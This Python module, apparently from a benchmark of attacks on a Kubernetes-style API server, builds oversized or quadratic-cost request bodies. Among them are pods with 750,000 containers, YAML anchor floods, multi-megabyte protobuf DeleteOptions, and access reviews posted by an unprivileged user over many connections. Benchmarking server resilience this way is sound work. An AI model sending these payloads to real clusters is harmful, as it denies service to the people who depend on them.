"""Bodies that cost the server more than the client: long lists where a rule compares all pairs, and large ones."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

from benchmarks.attacks.target import NOBODY, Run, Target, attacks, many, post

LARGE = 3 * 1024 * 1024 - 4096
CONFIG_MAPS = "/api/v1/namespaces/default/configmaps"
PODS = "/api/v1/namespaces/default/pods"


def _sends(path: str, make: Callable[[], Any], *, token: str | None = None, connections: int = 2) -> Run:
    async def attack(target: Target) -> None:
        body = json.dumps(make(), separators=(",", ":")).encode()
        assert len(body) < 3 * 1024 * 1024
        await many(target, connections, post(path, body, **({"token": token} if token else {})))

    return attack


def _sends_yaml(make: Callable[[], str]) -> Run:
    async def attack(target: Target) -> None:
        await many(target, 2, post(CONFIG_MAPS, make().encode(), kind="yaml"))

    return attack


def _anchors() -> str:
    """A document of many small nodes and references, and an error at its end."""
    lines = ["apiVersion: v1", "kind: ConfigMap", "metadata: {name: x}", "data: &d", "  a: &a [x]"]
    lines += [f"  k{index}: [*a, {{b: *a}}, 'c']" for index in range(100_000)]
    return "\n".join(lines)[:LARGE] + "\n}"


def _long_names() -> Any:
    long = "a-." * 300_000
    return {
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": {"name": long, "labels": {long: "x"}, "annotations": {"a/" + long[:800_000]: "x"}},
    }


def _object(kind: str, spec: dict[str, Any], version: str = "v1", **more: Any) -> dict[str, Any]:
    return {"apiVersion": version, "kind": kind, "metadata": {"name": "x"}, "spec": spec, **more}


def _node() -> Any:
    return _object("Node", {"podCIDRs": [f"x{i}" for i in range(5000)]})


def _service() -> Any:
    return _object("Service", {"ports": [{"port": 80}], "ipFamilies": [f"IPv{i}" for i in range(60_000)]})


def _spread() -> Any:
    rule = {"maxSkew": 1, "topologyKey": "k", "whenUnsatisfiable": "DoNotSchedule"}
    pod = {"containers": [{"name": "a", "image": "b"}], "topologySpreadConstraints": [rule] * 40_000}
    return _object("Pod", pod)


def _containers() -> Any:
    return _object("Pod", {"containers": [{}] * 750_000})


def _ordinary() -> Any:
    container = {
        "name": "c",
        "image": "registry/image:1",
        "env": [{"name": f"V{i}", "value": "x" * 20} for i in range(20)],
    }
    return _object("Pod", {"containers": [container] * 2500})


def _config_map() -> Any:
    return {
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": {"name": "x"},
        "data": {f"k{i}": "v" * 100 for i in range(25_000)},
    }


def _review() -> Any:
    extra = {f"k{i}": ["v"] * 40 for i in range(14_000)}
    spec = {"resourceAttributes": {"verb": "get"}, "user": "x", "extra": extra}
    return {"apiVersion": "authorization.cluster.io/v1", "kind": "SubjectAccessReview", "spec": spec}


def _self_review() -> Any:
    unknown = {f"k{i}": i for i in range(170_000)}
    spec = {"resourceAttributes": {"verb": "get"}, **unknown}
    return {"apiVersion": "authorization.cluster.io/v1", "kind": "SelfSubjectAccessReview", "spec": spec}


async def _delete_options(target: Target) -> None:
    """Protobuf: an Unknown with DeleteOptions of a great many dryRun strings."""
    item = b"\x2a\x01A"
    raw = item * (LARGE // len(item))
    length, size = b"", len(raw)
    while size > 127:
        length += bytes([size & 127 | 128])
        size >>= 7
    length += bytes([size])
    body = b"k8s\x00\x12" + length + raw
    await many(
        target,
        2,
        post(f"{CONFIG_MAPS}/none", body, method="DELETE", kind="vnd.cluster.protobuf"),
    )


REVIEWS = "/apis/authorization.cluster.io/v1/selfsubjectaccessreviews"
_BODIES: dict[str, Run] = {
    "Node with 5,000 podCIDRs": _sends("/api/v1/nodes", _node),
    "Service with 60,000 ipFamilies": _sends("/api/v1/namespaces/default/services", _service),
    "Pod with 40,000 topologySpreadConstraints": _sends(PODS, _spread),
    "Pod with 750,000 empty containers": _sends(PODS, _containers),
    "Pod of 2.8 MB": _sends(PODS, _ordinary),
    "ConfigMap of 2.8 MB": _sends(CONFIG_MAPS, _config_map),
    "SubjectAccessReview of 3 MB": _sends(
        "/apis/authorization.cluster.io/v1/subjectaccessreviews", _review, connections=4
    ),
    "reviews of 3 MB by a user without rights": _sends(REVIEWS, _self_review, token=NOBODY, connections=8),
    "DeleteOptions of 3 MB in protobuf": _delete_options,
    "YAML of 3 MB that is refused": _sends_yaml(_anchors),
    "names of 1 MB": _sends(CONFIG_MAPS, _long_names),
}
WRITERS = attacks("users who may write", _BODIES)
